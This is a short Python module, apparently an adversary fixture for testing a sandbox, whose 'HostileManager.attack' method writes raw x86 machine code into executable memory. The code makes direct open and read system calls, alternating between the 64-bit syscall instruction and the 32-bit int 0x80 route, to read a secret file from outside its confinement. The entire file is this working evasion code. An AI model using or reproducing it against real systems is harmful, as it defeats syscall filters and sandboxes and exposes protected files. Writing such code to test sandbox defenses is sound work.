"""Reads a file outside with machine code of its own: syscall, then the 32-bit int 0x80.

Control: secret.
Machine: x86_64.
"""

import ctypes
import mmap

TURNS = 2

LONG = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 0f05 c3")  # rax=rdi rdi=rsi rsi=rdx rdx=rcx
SHORT = bytes.fromhex("53 4889f8 4889f3 4887ca cd80 5b c3")  # eax=edi ebx=esi ecx=edx edx=ecx


class HostileManager:
    def attack(self, *, secret_path, turn):
        anonymous, below_4_gb = 0x22, 0x40
        room = mmap.mmap(-1, 8192, flags=anonymous | below_4_gb, prot=7)
        room[: len(SHORT)] = SHORT if turn else LONG.ljust(len(SHORT), b"\x90")
        room[4096 : 4097 + len(secret_path)] = secret_path.encode() + b"\0"
        base = ctypes.addressof(ctypes.c_char.from_buffer(room))
        kernel = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(base)
        open_, read = (5, 3) if turn else (2, 0)
        file = kernel(open_, base + 4096, 0, 0)
        kernel(read, file, base + 6000, 100)
        return bytes(room[6000:6100]).decode(errors="replace")
